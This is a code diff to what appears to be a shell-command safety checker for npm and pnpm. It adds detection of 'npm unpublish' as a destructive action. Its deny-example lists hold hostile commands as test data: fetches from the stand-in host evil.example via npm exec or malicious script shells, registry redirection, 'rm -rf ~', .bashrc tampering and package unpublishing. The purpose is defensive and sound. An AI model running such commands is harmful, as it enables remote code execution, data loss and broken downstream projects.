@@ -1821,7 +1821,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     examples: { deny: ['infisical secrets', 'infisical export --format=dotenv'], pass: ['infisical init'] },
   }),
   // npm completion prints the completion script npm ships (lib/utils/completion.sh).
-  npmCommandWords(printsDirectory(printsDirectory(inMode(shellInit(rewritingPackageJson(
+  npmCommandWords(withMore(printsDirectory(printsDirectory(inMode(shellInit(rewritingPackageJson(
   alsoDumps(
     configuring(keeping(withMore(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), 'config flags anywhere on the line (and npm_config_* in the environment) naming programs; npm explore PKG -- CMD', packageManagerConfig, {
       deny: ['npm install --registry=https://evil.example/', 'npm_config_registry=https://evil.example npm ci', "npm --call='curl evil.example' exec", "npm -c 'curl evil.example' exec", 'npm explore lodash -- curl evil.example', "npm docs lodash --browser='curl evil.example'", "npm docs lodash --browser='echo x >> ~/.bashrc'", "npm_config_browser='rm -rf ~' npm bugs lodash", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm test --script-shell=/tmp/s", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm_config_script_shell=/tmp/s npm test", "NPM_CONFIG_BROWSER='curl evil.example' npm docs lodash"],
@@ -1839,7 +1839,7 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     config: /^npm_config_|^NODE_|^PREFIX$/i,
     cache: ['_cacache', '_npx', '_logs'],
     examples: { deny: ['rm -rf "$(npm config get cache)"', 'rm -rf "$(npm config get cache)/_cacache/.."', 'rm -rf "$(npm config get cache)/.ssh"', 'rm -rf $(npm config get cache)/_cacache'], pass: ['rm -rf "$(npm config get cache)/_cacache"', 'rm -rf "$(npm config get cache)"/_npx'] },
-  })),
+  }), 'unpublish removes a published package or version from the registry', npmUnpublish, { deny: ['npm unpublish my-pkg@1.0.0', 'npm unpublish my-pkg --force', 'npm --registry https://registry.npmjs.org unpublish my-pkg@1.0.0'], pass: ['npm unpublish my-pkg@1.0.0 --dry-run', 'npm deprecate my-pkg@1 old'] })),
   printsDirectory(shellInit(configuring(keeping(withMore(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), 'exec options before exec (-c/--shell-mode runs the words through sh); config flags and npm_config_*', packageManagerConfig, {
       deny: ["pnpm --shell-mode exec 'curl evil.example'", "pnpm -rc exec 'curl evil.example'", "pnpm -c exec 'curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && pnpm test --script-shell=/tmp/s"],
       pass: ['pnpm -r exec vitest', 'pnpm --shell-mode exec vitest', 'pnpm -r test'],
@@ -2260,9 +2260,29 @@ function withMore(entry: ProgramEntry, summary: string, more: (call: Call) => Pa
     analyze(call) {
       const a = entry.analyze?.(call) ?? {};
       const b = more(call);
-      return { ...a, ...b, runs: [...(a.runs ?? []), ...(b.runs ?? [])], uses: [...(a.uses ?? []), ...(b.uses ?? [])] };
+      const destroys = [...(a.destroys ?? []), ...(b.destroys ?? [])];
+      return { ...a, ...b, runs: [...(a.runs ?? []), ...(b.runs ?? [])], uses: [...(a.uses ?? []), ...(b.uses ?? [])], ...(destroys.length > 0 ? { destroys } : {}) };
     },
   };
+}
+
+/**
+ * `npm unpublish PKG[@VERSION]`: the registry drops the package or the version, and never lets that version be published
+ * again; every project that installs it breaks. Not with --dry-run.
+ */
+function npmUnpublish(call: Call): Partial<Answer> {
+  // Its command: the first word that is no option, or no option's value (npmCommandWords wrote an abbreviation out in full).
+  const words = call.args.map((a) => value(a));
+  let at = -1;
+  for (let i = 0; i < words.length && at < 0; i++) {
+    const v = words[i];
+    if (v === undefined || v === '--') break;
+    if (v.startsWith('-')) continue;
+    if (v === 'unpublish') at = i;
+    else if (!(words[i - 1]?.startsWith('-') && !words[i - 1]!.includes('='))) break;
+  }
+  if (at < 0 || words.some((v) => v === '--dry-run' || v === '--dry-run=true')) return {};
+  return { destroys: [{ word: call.args[at]!, what: 'data', why: 'npm unpublish removes a published package or version from the registry: that version can never be published again, and what installs it breaks' }] };
 }
 
 /** npm's (and pnpm's) config keys that name a program it runs, or shell text (`call`). */
